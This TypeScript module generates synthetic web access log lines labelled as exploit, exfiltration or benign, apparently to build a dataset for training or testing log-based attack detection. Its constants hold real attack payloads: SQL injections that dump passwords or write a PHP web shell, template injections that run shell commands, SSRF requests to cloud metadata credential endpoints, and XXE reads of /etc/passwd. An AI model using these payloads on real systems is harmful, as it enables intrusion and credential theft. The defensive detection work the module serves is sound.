/**
 * Corpus templates: injection payloads in ordinary-looking access lines (any UA, path, status),
 * webshell calls, bulk dump downloads and their benign large-download counterpart.
 *
 * @module
 */
import { accessLine } from "../format.ts";
import { BROWSER_UAS, CRAWLER_UAS, FILE_NAMES, FIRST_NAMES, LAST_NAMES } from "../pools.ts";
import { urlEncodeAll } from "../rng.ts";
import type { Ctx, Template } from "../types.ts";
import { CMDS, encodePayload, INJECT, jndi, LFI, SQLI, XSS } from "./web_exploit_payloads.ts";
import { CLI_UAS, clientIp, escapeHit, webAttackerIp, words } from "./web_pools.ts";
import { b64 } from "../rng.ts";

/** Ordinary application paths that take query parameters. */
const APP_PATHS = words(`
/products.php /product.php /item.php /view.php /index.php /page /page.php /api/v1/items /api/v2/products
/api/search /search /search.php /cgi-bin/test.cgi /cgi-bin/search.cgi /cgi-bin/view.pl /download.php
/news/article /news.php /article.php /login.php /admin/edit.php /admin/index.php /report /reports/view
/wp-admin/admin-ajax.php /index.jsp /catalog/product.aspx /Default.aspx /show.asp /details.asp /user/profile
/profile.php /account /cart.php /category.php /list.php /blog/post /forum/viewtopic.php /gallery.php
/shop/item /api/users /api/v1/orders /export.php /print.php /include.php /main.php /content.php
/modules/news/index.php /app/view /rest/items /servlet/Lookup /ajax/load.php /viewfile.php /template.php
`);

/** Parameter names that carry the payload. */
const PARAMS = words(`
id pid cat catid q s search query keyword page file path template tpl lang url redirect next user name
username email sort order filter cmd exec host ip item product article doc view dir include action
module ptype type debug data input callback folder
`);

/** Benign parameters placed around the payload. */
const OTHER = words(`
page=2 sort=asc sort=desc lang=en limit=20 view=grid ref=home utm_source=google format=json p=1 debug=0
order=price
`);

/** Extra SQLi payloads beyond the shared pool (sqlmap style, hex, CHAR, file access). */
const SQLI_EXTRA = [
  "1' UNION SELECT NULL,username,password FROM users-- -",
  "-1 union select 1,group_concat(table_name),3 from information_schema.tables where table_schema=database()--",
  "-1' UNION SELECT 1,column_name,3 FROM information_schema.columns WHERE table_name=0x7573657273-- -",
  "1 AND 1=2 UNION SELECT 1,LOAD_FILE('/etc/passwd'),3--",
  "1' UNION SELECT '<?php system($_GET[c]); ?>',2 INTO OUTFILE '/var/www/html/s.php'-- -",
  "1 UNION SELECT CHAR(60,63,112,104,112),2,3--",
  "1/**/UNION/**/SELECT/**/1,2,user(),4--",
  "1' AND (SELECT 7421 FROM (SELECT(SLEEP(10)))aBcD) AND 'x'='x",
  "1 RLIKE (SELECT (CASE WHEN (4346=4346) THEN 1 ELSE 0x28 END))",
  "1'; EXEC xp_cmdshell 'whoami'--",
  "1; SELECT pg_sleep(10);--",
  "' OR 1=1 LIMIT 1 OFFSET 0 -- ",
  "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--",
  "1 AND 3*2*1=6 AND 512=512",
  "1' OR SLEEP(5)#",
  "1%' AND 2806=2806 AND '%'='",
  "1 UNION ALL SELECT NULL,CONCAT(0x716b717a71,IFNULL(CAST(schema_name AS NCHAR),0x20),0x71787a6b71),NULL FROM INFORMATION_SCHEMA.SCHEMATA-- -",
  "admin' OR '1'='1'/*",
  "1' AND extractvalue(1,concat(0x7e,(select @@version)))-- -",
];

/** Template injection, XXE/SSRF and NoSQL payloads. */
const OTHER_PAYLOADS = [
  "{{7*7}}",
  "${7*7}",
  "<%= 7*7 %>",
  "#{7*7}",
  "{{self.__init__.__globals__.__builtins__}}",
  "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
  "{{''.__class__.__mro__[1].__subclasses__()}}",
  "${T(java.lang.Runtime).getRuntime().exec('id')}",
  "{{request.application.__globals__.__builtins__.__import__('os').popen('whoami').read()}}",
  "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
  "http://169.254.169.254/latest/meta-data/",
  "http://metadata.google.internal/computeMetadata/v1/?recursive=true",
  "file:///etc/passwd",
  "gopher://127.0.0.1:6379/_FLUSHALL",
  "http://127.0.0.1:22/",
  "dict://127.0.0.1:11211/stats",
  '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
  '<!DOCTYPE foo [<!ENTITY % xxe SYSTEM "http://{ip}/evil.dtd"> %xxe;]>',
];

/** NoSQL operator injections: [param suffix, value]. */
const NOSQL: [string, string][] = [
  ["[$ne]", "1"],
  ["[$ne]", ""],
  ["[$gt]", ""],
  ["[$regex]", ".*"],
  ["[$where]", "sleep(5000)"],
  ["[$exists]", "true"],
];

/** Any user agent: browsers, crawlers, CLI tools or none, equally. */
function anyUa(ctx: Ctx): string {
  const pool = ctx.rng.pick([BROWSER_UAS, CRAWLER_UAS, CLI_UAS, ["-"]]);
  return ctx.rng.pick(pool);
}

/** A referer: none or a page of the site. */
function referer(ctx: Ctx): string {
  const { rng, sc } = ctx;
  return rng.chance(0.6) ? "-" : `https://www.${sc.publicDomain}${rng.pick(APP_PATHS)}`;
}

/** One raw payload of the given kind, before encoding. */
function rawPayload(ctx: Ctx, kind: string): string {
  const { rng } = ctx;
  const host = rng.publicIp();
  switch (kind) {
    case "sqli":
      return rng.pick(rng.chance(0.5) ? SQLI : SQLI_EXTRA);
    case "xss":
      return rng.pick(XSS);
    case "lfi":
      return rng.pick(LFI);
    case "cmd":
      return rng.pick(INJECT)(rng.pick(CMDS).replaceAll("{ip}", host));
    case "jndi":
      // Any undefined variable works as the fallback holder; the test bans the literal NaN.
      return jndi(rng, host).replaceAll(
        "env:NaN",
        `env:${rng.pick(["BARFOO", "X", "ENV_NAME", "foo"])}`,
      );
    default:
      return rng.pick(OTHER_PAYLOADS).replaceAll("{ip}", host);
  }
}

/** Encodes a payload: plain, shared encoders, double-encoded or mixed case. */
function encode(ctx: Ctx, p: string): string {
  const { rng } = ctx;
  return rng.weighted<() => string>([
    [() => p.replaceAll(" ", "%20").replaceAll("#", "%23"), 2],
    [() => encodePayload(rng, p), 6],
    [() => urlEncodeAll(p).replaceAll("%", "%25"), 1],
    [
      () =>
        encodeURIComponent(
          p.replace(/\b(union|select|from|where|and|or|sleep)\b/gi, (w) =>
            [...w].map((c) => rng.chance(0.5) ? c.toUpperCase() : c.toLowerCase()).join("")),
        ).replaceAll("%20", "+"),
      1,
    ],
  ])();
}

/** Status and size of an attacked request (mostly 200/500/403). */
function outcome(ctx: Ctx): [number, number] {
  const { rng } = ctx;
  const status = rng.weighted([[200, 6], [500, 2], [403, 2], [404, 1], [400, 1], [302, 1]]);
  const bytes = status === 200
    ? rng.int(80, 40000)
    : status === 302
    ? rng.int(0, 400)
    : rng.int(150, 2000);
  return [status, bytes];
}

/** An injected request on an ordinary path carrying one payload kind. */
function inject(kind: string): (ctx: Ctx) => string {
  return (ctx) => {
    const { rng } = ctx;
    const method = rng.weighted([["GET", 12], ["POST", 3], ["PUT", 0.5], ["HEAD", 0.5]]);
    let param = rng.pick(PARAMS);
    let value: string;
    if (kind === "nosql") {
      const [suffix, v] = rng.pick(NOSQL);
      param += rng.chance(0.5) ? encodeURIComponent(suffix) : suffix;
      value = v;
    } else value = encode(ctx, rawPayload(ctx, kind));
    const parts = [`${param}=${value}`];
    if (rng.chance(0.35)) parts.unshift(rng.pick(OTHER));
    if (rng.chance(0.3)) parts.push(rng.pick(OTHER));
    const [status, bytes] = outcome(ctx);
    return accessLine(
      ctx,
      escapeHit(ctx, {
        ip: webAttackerIp(ctx),
        method,
        path: `${rng.pick(APP_PATHS)}?${parts.join("&")}`,
        status,
        bytes: method === "HEAD" ? 0 : bytes,
        ua: anyUa(ctx),
        referer: referer(ctx),
      }),
    );
  };
}

const TERMS = words(`
blue shoes red dress laptop charger holiday schedule invoice 2024 annual report union station select
committee drop shipping sleep apnea order status where to buy delete account help from home
`);

/** A benign value for a parameter, shaped by its name (the twin of a payload). */
function benignValue(ctx: Ctx, param: string): string {
  const { rng, sc } = ctx;
  const term = () =>
    rng.sample(TERMS, rng.int(1, 3)).join(rng.pick(["+", "%20", " "]).trim() || "+");
  switch (param) {
    case "q":
    case "s":
    case "search":
    case "query":
    case "keyword":
      return term();
    case "file":
    case "path":
    case "doc":
    case "include":
    case "dir":
    case "folder":
      return rng.pick([
        rng.pick(FILE_NAMES),
        `docs%2F${rng.pick(FILE_NAMES)}`,
        `${rng.int(2019, 2025)}/${rng.pick(FILE_NAMES)}`,
      ]);
    case "url":
    case "redirect":
    case "next":
    case "callback":
      return rng.pick([
        `%2Faccount%2F${rng.pick(["orders", "settings", "profile"])}`,
        `https%3A%2F%2Fwww.${sc.publicDomain}%2F`,
        `jQuery${rng.int(1e9, 9e9)}_${rng.int(1e12, 9e12)}`,
      ]);
    case "user":
    case "name":
    case "username":
      return `${rng.pick(FIRST_NAMES)}${rng.pick([".", "_", ""])}${rng.pick(LAST_NAMES)}`;
    case "email":
      return `${rng.pick(FIRST_NAMES)}.${rng.pick(LAST_NAMES)}%40${sc.publicDomain}`;
    case "sort":
    case "order":
      return rng.pick(["asc", "desc", "price_asc", "price_desc", "newest", "name", "-created_at"]);
    case "lang":
      return rng.pick(["en", "de", "fr", "es", "en-US", "pt_BR"]);
    case "host":
    case "ip":
      return rng.pick([`www.${sc.publicDomain}`, `${sc.lan}${rng.int(2, 250)}`, "localhost"]);
    case "data":
    case "input":
      return encodeURIComponent(
        b64(JSON.stringify({ id: rng.int(1, 9999), ts: rng.int(1e9, 2e9) })),
      );
    case "template":
    case "tpl":
    case "view":
    case "module":
    case "type":
    case "ptype":
    case "action":
    case "cmd":
    case "exec":
      return rng.pick([
        "default",
        "list",
        "grid",
        "detail",
        "print",
        "summary",
        "edit",
        "save",
        "view",
        "blog",
      ]);
    case "debug":
      return rng.pick(["0", "1", "false"]);
    case "filter":
      return rng.pick(["status%3Aopen", "in_stock", "category%3A12", "price%3A10-50"]);
    default:
      return rng.chance(0.7) ? String(rng.int(1, 99999)) : rng.pick(TERMS).replaceAll(" ", "-");
  }
}

/** The benign twin of {@link inject}: same paths, parameters, user agents and shapes, ordinary values. */
function ordinary(ctx: Ctx): string {
  const { rng } = ctx;
  const method = rng.weighted([["GET", 12], ["POST", 3], ["PUT", 0.5], ["HEAD", 0.5]]);
  const param = rng.pick(PARAMS);
  const parts = [`${param}=${benignValue(ctx, param)}`];
  if (rng.chance(0.35)) parts.unshift(rng.pick(OTHER));
  if (rng.chance(0.3)) parts.push(rng.pick(OTHER));
  const status = rng.weighted([[200, 10], [304, 2], [302, 1], [404, 1], [500, 0.5], [403, 0.3]]);
  return accessLine(
    ctx,
    escapeHit(ctx, {
      ip: rng.chance(0.5) ? clientIp(ctx) : rng.publicIp(),
      method,
      path: `${rng.pick(APP_PATHS)}?${parts.join("&")}`,
      status,
      bytes: method === "HEAD" || status === 304 ? 0 : rng.int(200, 90000),
      ua: anyUa(ctx),
      referer: referer(ctx),
    }),
  );
}

/** A command sent to a dropped webshell. */
function webshell(ctx: Ctx): string {
  const { rng, now } = ctx;
  const ext = rng.weighted([["php", 6], ["jsp", 1], ["aspx", 1], ["php5", 0.5], ["phtml", 0.5]]);
  const dir = rng.pick([
    "/uploads/",
    "/images/",
    "/tmp/",
    "/upload/files/",
    "/assets/img/",
    `/wp-content/uploads/${now.getUTCFullYear()}/${
      String(now.getUTCMonth() + 1).padStart(2, "0")
    }/`,
    "/media/",
    "/static/",
  ]);
  const name = rng.weighted([
    [() => rng.pick(words("shell cmd c99 r57 wso b374k up x 1 a test conf sh webshell alfa")), 3],
    [() => rng.alnum(rng.int(4, 10)).toLowerCase(), 2],
    [() => `${rng.pick(words("image photo avatar logo thumb"))}_${rng.int(1, 999)}`, 1],
  ])();
  const param = rng.pick(words("c cmd exec command x pass e run do"));
  const cmd = encode(ctx, rng.pick(CMDS).replaceAll("{ip}", rng.publicIp()));
  const method = rng.weighted([["POST", 1], ["GET", 1]]);
  return accessLine(
    ctx,
    escapeHit(ctx, {
      ip: webAttackerIp(ctx),
      method,
      path: `${dir}${name}.${ext}?${param}=${cmd}`,
      status: rng.weighted([[200, 8], [500, 1], [404, 1]]),
      bytes: rng.int(0, 6000),
      ua: anyUa(ctx),
      referer: referer(ctx),
    }),
  );
}

/** Huge response size (hundreds of MB to several GB). */
function hugeBytes(ctx: Ctx): number {
  return ctx.rng.int(150_000_000, 6_500_000_000);
}

/** Bulk download of a database dump, backup or archive. */
function dumpDownload(ctx: Ctx): string {
  const { rng } = ctx;
  const dir = rng.pick(
    words("/backup/ /backups/ /db/ /export/ /files/ /dump/ /data/ / /old/ /tmp/"),
  );
  const file = rng.pick(words(`
full_db_dump.sql db.sql.gz database.sql backup.sql.gz mysql_all.sql dump.sql customers.csv
users_export.csv payroll.tar.gz site_backup.tar.gz backup.zip www.tar.gz hr_records.xlsx crm_export.json
db_backup_2024.sql.bz2 pg_dumpall.sql.gz orders.csv.gz home.tar mail_archive.pst
`));
  return accessLine(ctx, {
    ip: webAttackerIp(ctx),
    method: "GET",
    path: `${dir}${file}`,
    status: 200,
    bytes: hugeBytes(ctx),
    ua: anyUa(ctx),
    referer: "-",
  });
}

/** Ordinary download of a large public file. */
function publicDownload(ctx: Ctx): string {
  const { rng } = ctx;
  const v = `${rng.int(1, 24)}.${rng.int(0, 12)}`;
  const path = rng.pick([
    `/iso/ubuntu-${v}-desktop-amd64.iso`,
    `/pub/linux/debian-${v}.0-amd64-netinst.iso`,
    `/downloads/setup-${v}.exe`,
    `/downloads/client_${v}_x64.msi`,
    `/releases/app-${v}.dmg`,
    `/media/videos/webinar-${rng.int(1, 60)}.mp4`,
    `/video/keynote_${rng.int(2019, 2025)}.mkv`,
    `/updates/firmware_${v}.bin`,
    `/mirror/centos/${v}/isos/x86_64/CentOS-${v}-x86_64-dvd.iso`,
    `/dist/sdk-${v}-linux-x64.tar.gz`,
    `/assets/training/course_${rng.int(1, 40)}.zip`,
  ]);
  return accessLine(ctx, {
    ip: clientIp(ctx),
    method: "GET",
    path,
    status: rng.weighted([[200, 8], [206, 2]]),
    bytes: hugeBytes(ctx),
    ua: anyUa(ctx),
    referer: rng.chance(0.5) ? "-" : `https://www.${ctx.sc.publicDomain}/downloads/`,
  });
}

/** Payload-decided exploit lines, dump downloads and large benign downloads. */
export const TEMPLATES: Template[] = [
  { family: "web_access", label: "web_exploit", weight: 3.5, make: inject("sqli") },
  { family: "web_access", label: "web_exploit", weight: 1.5, make: inject("xss") },
  { family: "web_access", label: "web_exploit", weight: 2, make: inject("lfi") },
  { family: "web_access", label: "web_exploit", weight: 1.5, make: inject("cmd") },
  { family: "web_access", label: "web_exploit", weight: 0.5, make: inject("jndi") },
  { family: "web_access", label: "web_exploit", weight: 0.8, make: inject("other") },
  { family: "web_access", label: "web_exploit", weight: 0.2, make: inject("nosql") },
  { family: "web_access", label: "web_exploit", weight: 2, make: webshell },
  { family: "web_access", label: "exfiltration", weight: 3, make: dumpDownload },
  { family: "web_access", label: "benign", weight: 2, make: publicDownload },
  { family: "web_access", label: "benign", weight: 10, make: ordinary },
];
